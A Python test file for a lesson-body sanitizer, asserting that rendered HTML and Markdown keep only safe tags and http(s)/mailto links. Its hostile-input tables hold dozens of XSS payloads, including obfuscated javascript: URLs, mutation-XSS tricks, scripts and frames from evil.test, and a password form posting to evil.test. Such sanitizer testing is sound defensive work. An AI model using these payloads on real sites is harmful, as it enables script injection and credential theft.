"""Lesson bodies: nothing that runs, loads a frame or leaves http(s) and mailto gets through; what teaches does."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.catalog.markup import render
from app.catalog.models import BodyFormat

_TAGS = """a abbr acronym area article aside b bdi bdo blockquote br caption center cite code col colgroup data dd del
    details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li map mark nav
    ol p pre q rp rt rtc ruby s samp small span strike strong sub summary sup table tbody td th thead time tr tt u ul
    var wbr tfoot"""
_ATTRIBUTES = """href src alt title rel width height align lang dir cite datetime start span colspan rowspan headers scope char
    charoff hreflang size"""
# Short enough to build every mistake of a cleaner from.
_PIECES = """< > </ /> <! <!-- --> <script <img <svg <a <style <b> <p> </p> src= href= onerror= javascript: data:
    https://x ' \" = ` ( ) [ ] ! * | & &#106; &lt; ; x title= alert(1) math <mtext> <table>"""
SAFE_TAGS = set(_TAGS.split())
SAFE_ATTRIBUTES = set(_ATTRIBUTES.split())
PIECES = [*_PIECES.split(), " ", "\n", "\t"]


class Auditor(HTMLParser):
    """Reads HTML as a browser does and lists what could do harm."""

    def __init__(self) -> None:
        super().__init__()
        self.harm: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.harm.append(f"<{tag}>")
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES:
                self.harm.append(f"{tag} {name}")
            if name in {"href", "src", "cite"}:
                # As browsers read an address: space around it and breaks within do not count.
                address = re.sub(r"[\t\r\n]", "", (value or "").strip("\0\x01\x1f "))
                scheme = re.match(r"([a-z][a-z0-9+.\-]*):", address, re.IGNORECASE)
                if scheme and scheme[1].lower() not in {"http", "https", "mailto"}:
                    self.harm.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.harm.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.harm.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.harm.append(f"instruction {data}")


def harm(html: str) -> list[str]:
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.harm


HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>p { background: url(javascript:alert(1)) }</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#09;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x'>x</a>",
    "<a href='ftp://evil.test/x'>x</a><a href='tel:+1'>x</a><a href='magnet:?x'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.test><input name=password><button>x</button></form>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)><html><head>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=https://x target=_blank id=x class=y name=z data-x=1>x</a>",
    "<div id=root class=login>x</div>",
    "<p>" * 5_000 + "<script>alert(1)</script>",
    "<",
    "</",
    "<a href='",
    "<a href=",
    "\0<script\0>alert(1)</script>",
]
HOSTILE_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](https://x 'a\" onclick=alert(1) b=\"')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](https://x)',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "~~<iframe src=x>~~",
    "*<b onclick=alert(1)>x*",
]


@pytest.mark.parametrize("source", HOSTILE_HTML)
@pytest.mark.parametrize("body_format", list(BodyFormat))
def test_html_does_no_harm(source: str, body_format: BodyFormat) -> None:
    assert harm(render(source, body_format)) == []


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN)
def test_markdown_does_no_harm(source: str) -> None:
    assert harm(render(source, BodyFormat.MARKDOWN)) == []


def test_the_auditor_sees_harm() -> None:
    # Before cleaning, most of the table does harm in the auditor's eyes, too: it is not blind.
    assert sum(bool(harm(source)) for source in HOSTILE_HTML) > 45


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from(PIECES), max_size=20),
    st.sampled_from(BodyFormat),
)
def test_no_pile_of_pieces_does_harm(pieces: list[str], body_format: BodyFormat) -> None:
    assert harm(render("".join(pieces), body_format)) == []


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("# One\n\n## Two", "<h1>One</h1>\n<h2>Two</h2>\n"),
        ("**a** *b* `c` ~~d~~", "<p><strong>a</strong> <em>b</em> <code>c</code> <s>d</s></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("2. a\n3. b", '<ol start="2">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>\n"),
        ("```\n1 < 2\n```", "<pre><code>1 &lt; 2\n</code></pre>\n"),
        ("a\n\n---", "<p>a</p>\n<hr>\n"),
        (
            "[x](https://example.org 'T')",
            '<p><a href="https://example.org" title="T" rel="noopener noreferrer nofollow">x</a></p>\n',
        ),
        (
            "[x](mailto:a@example.org)",
            '<p><a href="mailto:a@example.org" rel="noopener noreferrer nofollow">x</a></p>\n',
        ),
        ("![alt](https://example.org/a.png)", '<p><img src="https://example.org/a.png" alt="alt"></p>\n'),
        (
            "|a|\n|-|\n|1|",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n</tr>\n</tbody>\n</table>\n",
        ),
        ("H<sub>2</sub>O <kbd>Ctrl</kbd>", "<p>H<sub>2</sub>O <kbd>Ctrl</kbd></p>\n"),
        ("سلام 🦊", "<p>سلام 🦊</p>\n"),
    ],
)
def test_what_teaches_survives(source: str, html: str) -> None:
    assert render(source, BodyFormat.MARKDOWN) == html


def test_html_stays_as_written() -> None:
    html = '<p lang="fr">Ça <b>va</b><br>?</p><figure><img src="/a.png" alt="A" width="3"></figure>'
    assert render(html, BodyFormat.HTML) == html
